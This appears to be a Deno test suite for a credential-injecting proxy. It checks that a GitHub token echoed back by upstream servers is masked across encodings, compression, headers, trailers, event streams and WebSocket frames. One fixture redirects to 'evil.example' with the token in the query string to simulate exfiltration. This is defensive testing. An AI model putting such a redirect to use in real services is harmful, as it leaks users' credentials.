/**
 * The contract: whatever a service does with the credential that it was sent, the client does not get
 * it back; everything else arrives as it was.
 */

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import {
  brotliCompressSync,
  deflateRawSync,
  deflateSync,
  gzipSync,
  zstdCompressSync,
} from "node:zlib";
import { assertRefused } from "../support/assert_refused.ts";
import { Lab } from "../support/lab.ts";
import { RawClient } from "../support/proxy_client.ts";
import type { ProxyProcess } from "../support/proxy_process.ts";
import type { Handler } from "../support/upstream.ts";
import type { UpstreamExchange } from "../support/upstream_exchange.ts";
import { byPath } from "../support/upstream_scripts.ts";
import { waitUntil } from "../support/wait_until.ts";
import { acceptKey, readFrame, writeFrame } from "../support/websocket_frames.ts";

/** With what each encoding writes in another way. */
const secret = `ghp_7Q/+=<&>'${"kLm3".repeat(8)}`;
const host = "api.github.com";

function credentialOf({ request }: UpstreamExchange): string {
  const [value = ""] = request.values("authorization");
  assert.equal(value, `Bearer ${secret}`, "the credential must have been injected");
  return value.slice("Bearer ".length);
}

/** Sends `make` of the credential that came, as a body with a length. */
function echo(make: (credential: string) => string | Uint8Array, fields = {}): Handler {
  return (exchange) => exchange.respond({ body: make(credentialOf(exchange)), fields });
}

async function world(handlers: Readonly<Record<string, Handler>>): Promise<World> {
  const lab = await Lab.create();
  try {
    await lab.upstream([`${host}:443`], byPath(handlers));
    const proxy = await lab.proxy({ secrets: { GITHUB_TOKEN: secret } });
    return { lab, proxy, ca: await Deno.readTextFile(proxy.caFile) };
  } catch (error) {
    await lab[Symbol.asyncDispose]();
    throw error;
  }
}

interface World {
  readonly lab: Lab;
  readonly proxy: ProxyProcess;
  readonly ca: string;
}

/** What a client gets for `target`, whole and as text. */
async function fetchVia(
  { proxy, ca }: World,
  { target, fields = "" }: { target: string; fields?: string },
) {
  using client = await RawClient.tunnel(proxy.url, { target: `${host}:443`, ca });
  const response = await client.get(target, `Host: ${host}\r\n${fields}`);
  const everything = JSON.stringify([response.fields, response.trailers]) + response.body;
  return { ...response, everything };
}

function assertNotIn(text: string): void {
  assert.ok(!text.includes(secret), `the credential came back: ${text}`);
  assert.ok(!text.includes("kLm3kLm3"), `most of the credential came back: ${text}`);
}

const base64 = (text: string) => Buffer.from(text, "latin1").toString("base64");
const hex = (text: string) => Buffer.from(text, "latin1").toString("hex");

/** Each with what undoes it, to see that the credential is not in there. */
const encodings: Readonly<
  Record<string, { encode(text: string): string; decode(text: string): string }>
> = {
  "as it came": { encode: (text) => text, decode: (text) => text },
  "in base64": { encode: base64, decode: atobLoosely },
  "in base64, one octet further": { encode: (text) => base64(`x${text}`), decode: atobLoosely },
  "in base64, two octets further": { encode: (text) => base64(`xy${text}z`), decode: atobLoosely },
  "in base64url": {
    encode: (text) => Buffer.from(text, "latin1").toString("base64url"),
    decode: (text) => atobLoosely(text.replaceAll("-", "+").replaceAll("_", "/")),
  },
  "in hexadecimal": { encode: hex, decode: (text) => Buffer.from(text, "hex").toString("latin1") },
  "percent-encoded": {
    encode: encodeURIComponent,
    decode: (text) => decodeURIComponent(text),
  },
  "percent-encoded whole": {
    encode: (text) => hex(text).replace(/../g, "%$&"),
    decode: (text) => decodeURIComponent(text),
  },
  "in JSON": { encode: (text) => JSON.stringify(text), decode: (text) => JSON.parse(text) },
  "in JSON with all escaped": {
    encode: (text) => `"${hex(text).replace(/../g, "\\u00$&")}"`,
    decode: (text) => text.startsWith('"*') ? text : JSON.parse(text),
  },
};

function atobLoosely(text: string): string {
  return Buffer.from(text.replaceAll("*", "A"), "base64").toString("latin1");
}

Deno.test("a credential that a body echoes does not come back, in any encoding, whole or cut up", async (t) => {
  const handlers: Record<string, Handler> = {};
  Object.values(encodings).forEach(({ encode }, index) => {
    handlers[`/length/${index}`] = echo((text) => `before ${encode(text)} after`);
    handlers[`/chunks/${index}`] = async (exchange) => {
      await exchange.writeHead(200, { "Transfer-Encoding": "chunked" });
      for (const character of `before ${encode(credentialOf(exchange))} after`) {
        await exchange.write(`1\r\n${character}\r\n`);
      }
      await exchange.write("0\r\n\r\n");
    };
    handlers[`/end/${index}`] = async (exchange) => {
      exchange.closesAfter = true;
      await exchange.writeHead(200, { Connection: "close" });
      await exchange.write(`before ${encode(credentialOf(exchange))}`);
    };
  });
  const it = await world(handlers);
  await using _ = it.lab;
  let index = 0;
  for (const [name, { encode, decode }] of Object.entries(encodings)) {
    for (const way of ["length", "chunks", "end"]) {
      await t.step(`${name}: ${way}`, async () => {
        const { body, status } = await fetchVia(it, { target: `/${way}/${index}` });
        assert.equal(status, 200);
        const text = `before ${encode(secret)}${way === "end" ? "" : " after"}`;
        assert.equal(body.length, text.length);
        assert.match(body, way === "end" ? /^before / : /^before .* after$/);
        const echoed = body.slice("before ".length, way === "end" ? undefined : -" after".length);
        assert.ok(echoed.includes("*".repeat(16)), echoed);
        assertNotIn(decode(echoed));
      });
    }
    index++;
  }
});

const compressions = [
  ["gzip", "gzip", gzipSync],
  ["x-gzip", "x-gzip", gzipSync],
  ["deflate", "deflate", deflateSync],
  ["bare deflate", "deflate", deflateRawSync],
  ["br", "br", brotliCompressSync],
  ["zstd", "zstd", zstdCompressSync],
] as const;

for (const [name, coding, compress] of compressions) {
  Deno.test(`a credential in ${name} is found, and the rest arrives decoded`, async () => {
    const long = "some text that is long enough, ".repeat(20_000);
    const coded = { "Content-Encoding": coding, ETag: '"v1"' };
    const it = await world({
      "/": echo((text) => compress(`${long}${text}${long}`), coded),
      "/octets": async (exchange) => {
        await exchange.writeHead(200, { ...coded, "Transfer-Encoding": "chunked" });
        for (const octet of compress(`<${credentialOf(exchange)}>`)) {
          await exchange.write("1\r\n");
          await exchange.write(Uint8Array.of(octet, 13, 10));
        }
        await exchange.write("0\r\n\r\n");
      },
      "/empty": (exchange) => exchange.respond({ fields: coded }),
      "/none": (exchange) => exchange.respond({ status: 304, fields: coded }),
    });
    await using _ = it.lab;
    const whole = await fetchVia(it, { target: "/", fields: `Accept-Encoding: ${coding}\r\n` });
    assert.equal(whole.status, 200);
    assert.equal(whole.value("content-encoding"), undefined);
    assert.equal(whole.value("etag"), '"v1"');
    assert.equal(whole.body, `${long}${"*".repeat(secret.length)}${long}`);
    const octets = await fetchVia(it, { target: "/octets" });
    assert.equal(octets.body, `<${"*".repeat(secret.length)}>`);
    const empty = await fetchVia(it, { target: "/empty" });
    assert.equal(empty.value("content-length"), "0");
    assert.equal((await fetchVia(it, { target: "/none" })).status, 304);
  });
}

Deno.test("what cannot be searched is not asked for, and refused if it comes all the same", async () => {
  const it = await world({
    "/compress": echo((text) => text, { "Content-Encoding": "compress" }),
    "/twice": echo((text) => gzipSync(gzipSync(text)), { "Content-Encoding": "gzip, gzip" }),
    "/part": async (exchange) => {
      await exchange.respond({
        status: 206,
        fields: { "Content-Range": "bytes 0-9/40" },
        body: credentialOf(exchange).slice(0, 10),
      });
    },
    "/asked": (exchange) => exchange.respondJson(exchange.request.fields),
  });
  await using _ = it.lab;
  for (const target of ["/compress", "/twice"]) {
    const response = await fetchVia(it, { target });
    assertRefused(response, { status: 502, error: "http_response_content_coding" });
    assertNotIn(response.everything);
  }
  const part = await fetchVia(it, { target: "/part", fields: "Range: bytes=0-9\r\n" });
  assertRefused(part, { status: 502, error: "http_protocol_error" });
  assert.ok(!part.everything.includes(secret.slice(0, 8)));
  const fields = "Range: bytes=0-9\r\nIf-Range: x\r\nAccept-Encoding: gzip, compress, *\r\n";
  const asked = JSON.parse((await fetchVia(it, { target: "/asked", fields })).body);
  const names = asked.map(([name]: [string]) => name.toLowerCase());
  assert.ok(!names.includes("range") && !names.includes("if-range"), names.join());
  const codings = asked.find(([name]: [string]) => name === "Accept-Encoding")[1];
  assert.equal(codings, "gzip");
});

Deno.test("a body that does not decode is cut, not passed on", async () => {
  const it = await world({
    "/": (exchange) =>
      exchange.respond({ body: "no gzip", fields: { "Content-Encoding": "gzip" } }),
    "/cut": (exchange) =>
      exchange.respond({
        body: gzipSync("x".repeat(100_000)).subarray(0, -5),
        fields: { "Content-Encoding": "gzip" },
      }),
  });
  await using _ = it.lab;
  for (const target of ["/", "/cut"]) {
    await assert.rejects(fetchVia(it, { target }), /ended|reset|close|early|eof/i);
  }
});

Deno.test("a credential in a header, a status line, a trailer, an interim response or an error page", async () => {
  const it = await world({
    "/header": (exchange) =>
      exchange.respond({ fields: { "X-Echo": credentialOf(exchange), "X-After": "kept" } }),
    "/base64": (exchange) =>
      exchange.respond({ fields: { "X-Echo": base64(`:${credentialOf(exchange)}`) } }),
    "/cookie": (exchange) =>
      exchange.respond({
        fields: { "Set-Cookie": `t=${encodeURIComponent(credentialOf(exchange))}` },
      }),
    "/location": (exchange) =>
      exchange.respond({
        status: 302,
        fields: {
          Location: `https://evil.example/?t=${encodeURIComponent(credentialOf(exchange))}`,
        },
      }),
    "/reason": async (exchange) => {
      await exchange.write(`HTTP/1.1 200 ${credentialOf(exchange)}\r\nContent-Length: 0\r\n\r\n`);
    },
    "/trailer": async (exchange) => {
      await exchange.writeHead(200, { "Transfer-Encoding": "chunked", Trailer: "X-Echo" });
      await exchange.write(`2\r\nok\r\n0\r\nX-Echo: ${credentialOf(exchange)}\r\n\r\n`);
    },
    "/early": async (exchange) => {
      await exchange.write(`HTTP/1.1 103 Early\r\nLink: <${credentialOf(exchange)}>\r\n\r\n`);
      await exchange.respond({});
    },
    "/error": (exchange) =>
      exchange.respond({ status: 401, body: `<p>Bad token ${credentialOf(exchange)}</p>` }),
    "/malformed": async (exchange) => {
      exchange.closesAfter = true;
      await exchange.write(`HTTP/1.1 200 OK\r\n${credentialOf(exchange)}: \x01\r\n\r\n`);
    },
  });
  await using _ = it.lab;
  const stars = "*".repeat(secret.length);
  const header = await fetchVia(it, { target: "/header" });
  assert.equal(header.value("x-echo"), stars);
  assert.equal(header.value("x-after"), "kept");
  const trailer = await fetchVia(it, { target: "/trailer" });
  assert.deepEqual(trailer.trailers, [["X-Echo", stars]]);
  const error = await fetchVia(it, { target: "/error" });
  assert.equal(error.status, 401);
  assert.equal(error.body, `<p>Bad token ${stars}</p>`);
  for (const target of ["/base64", "/cookie", "/location", "/early", "/malformed"]) {
    assertNotIn(decodeURIComponent((await fetchVia(it, { target })).everything));
  }
  using client = await RawClient.tunnel(it.proxy.url, { target: `${host}:443`, ca: it.ca });
  await client.send(`GET /reason HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
  assert.equal(await client.reader.readLine(), `HTTP/1.1 200 ${stars}`);
});

Deno.test("another rule's credential does not come back either", async () => {
  await using lab = await Lab.create();
  const other = "sntrys_0123456789abcdef";
  await lab.upstream([`${host}:443`], (exchange) => exchange.respond({ body: `stored: ${other}` }));
  const proxy = await lab.proxy({ secrets: { GITHUB_TOKEN: secret, SENTRY_AUTH_TOKEN: other } });
  const ca = await Deno.readTextFile(proxy.caFile);
  const response = await fetchVia({ lab, proxy, ca }, { target: "/" });
  assert.equal(response.body, `stored: ${"*".repeat(other.length)}`);
});

Deno.test("the pair of Basic credentials does not come back", async () => {
  await using lab = await Lab.create();
  await lab.upstream(["github.com:443"], async (exchange) => {
    const [value = ""] = exchange.request.values("authorization");
    assert.equal(value, `Basic ${base64(`x-access-token:${secret}`)}`);
    await exchange.respond({ body: `${value} ${base64(value)}` });
  });
  const proxy = await lab.proxy({ secrets: { GITHUB_TOKEN: secret } });
  const ca = await Deno.readTextFile(proxy.caFile);
  using client = await RawClient.tunnel(proxy.url, { target: "github.com:443", ca });
  const { body } = await client.get("/", "Host: github.com\r\n");
  const [scheme, pair = "", again = ""] = body.split(" ");
  assert.equal(scheme, "Basic");
  assert.match(pair, /^\*+$/);
  assert.ok(!atobLoosely(atobLoosely(again).replaceAll("Basic ", "")).includes("kLm3kLm3"));
});

Deno.test("server-sent events leave when they arrive, though the stream is searched", async () => {
  const { promise: release, resolve } = Promise.withResolvers<void>();
  const it = await world({
    "/": async (exchange) => {
      await exchange.writeHead(200, { "Transfer-Encoding": "chunked" });
      const event = `data: ${credentialOf(exchange)} one\n\n`;
      await exchange.write(`${event.length.toString(16)}\r\n${event}\r\n`);
      await release;
      await exchange.write("0\r\n\r\n");
    },
  });
  await using _ = it.lab;
  using client = await RawClient.tunnel(it.proxy.url, { target: `${host}:443`, ca: it.ca });
  await client.send(`GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
  await client.reader.readHead();
  const size = parseInt(await client.reader.readLine() ?? "", 16);
  const event = new TextDecoder().decode(await client.reader.readExactly(size));
  assert.equal(event, `data: ${"*".repeat(secret.length)} one\n\n`);
  resolve();
  assert.equal(await client.reader.readLine(), "");
  assert.equal(await client.reader.readLine(), "0");
});

Deno.test("a WebSocket's frames are searched, and none is compressed", async () => {
  const it = await world({
    "/": async (exchange) => {
      const credential = credentialOf(exchange);
      assert.deepEqual(exchange.request.values("sec-websocket-extensions"), []);
      await exchange.writeHead(101, {
        Upgrade: "websocket",
        Connection: "Upgrade",
        "Sec-WebSocket-Accept": await acceptKey(
          exchange.request.values("sec-websocket-key")[0] ?? "",
        ),
      });
      exchange.closesAfter = true;
      const encoder = new TextEncoder();
      for (const opcode of ["text", "binary", "ping"] as const) {
        await writeFrame(exchange.connection, {
          opcode,
          payload: encoder.encode(`<${credential}>`),
        });
      }
      // In two fragments, octet by octet.
      const [first, second] = [credential.slice(0, 20), credential.slice(20)];
      const frames = [
        0x01,
        20,
        ...encoder.encode(first),
        0x80,
        second.length,
        ...encoder.encode(second),
      ];
      for (const octet of frames) await exchange.write(Uint8Array.of(octet));
      await readFrame(exchange.reader);
    },
  });
  await using _ = it.lab;
  using client = await RawClient.tunnel(it.proxy.url, { target: `${host}:443`, ca: it.ca });
  await client.send(
    `GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
      "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n" +
      "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n",
  );
  assert.match((await client.reader.readHead())?.startLine ?? "", / 101 /);
  const stars = "*".repeat(secret.length);
  for (const opcode of ["text", "binary", "ping"]) {
    const frame = await readFrame(client.reader);
    assert.equal(frame.opcode, opcode);
    assert.equal(new TextDecoder().decode(frame.payload), `<${stars}>`);
  }
  const fragments = await client.reader.readExactly(secret.length + 4);
  assert.equal(
    String.fromCharCode(...fragments),
    `\x01\x14${"*".repeat(20)}\x80${String.fromCharCode(secret.length - 20)}${stars.slice(20)}`,
  );
  const mask = Uint8Array.of(1, 2, 3, 4);
  await writeFrame(client.connection, { opcode: "close", payload: new Uint8Array(), mask });
});

Deno.test("an upgraded connection that does not speak WebSocket is cut", async () => {
  const it = await world({
    "/": async (exchange) => {
      const credential = credentialOf(exchange);
      await exchange.writeHead(101, { Upgrade: "websocket", Connection: "Upgrade" });
      exchange.closesAfter = true;
      await exchange.write(`plain text: ${credential}\n`.repeat(20));
    },
  });
  await using _ = it.lab;
  using client = await RawClient.tunnel(it.proxy.url, { target: `${host}:443`, ca: it.ca });
  await client.send(
    `GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
  );
  assert.match((await client.reader.readHead())?.startLine ?? "", / 101 /);
  await client.expectEnd();
});

Deno.test("a secret too short to be recognised is named at the start", async () => {
  await using lab = await Lab.create();
  const proxy = await lab.proxy({
    secrets: { GITHUB_TOKEN: "short12", SENTRY_AUTH_TOKEN: "12345678" },
  });
  await waitUntil(() => /GITHUB_TOKEN: .*fewer than 8 characters/.test(proxy.stderr), {
    what: "the short secret is named",
  });
  assert.doesNotMatch(proxy.stderr, /SENTRY_AUTH_TOKEN: .*fewer/);
});
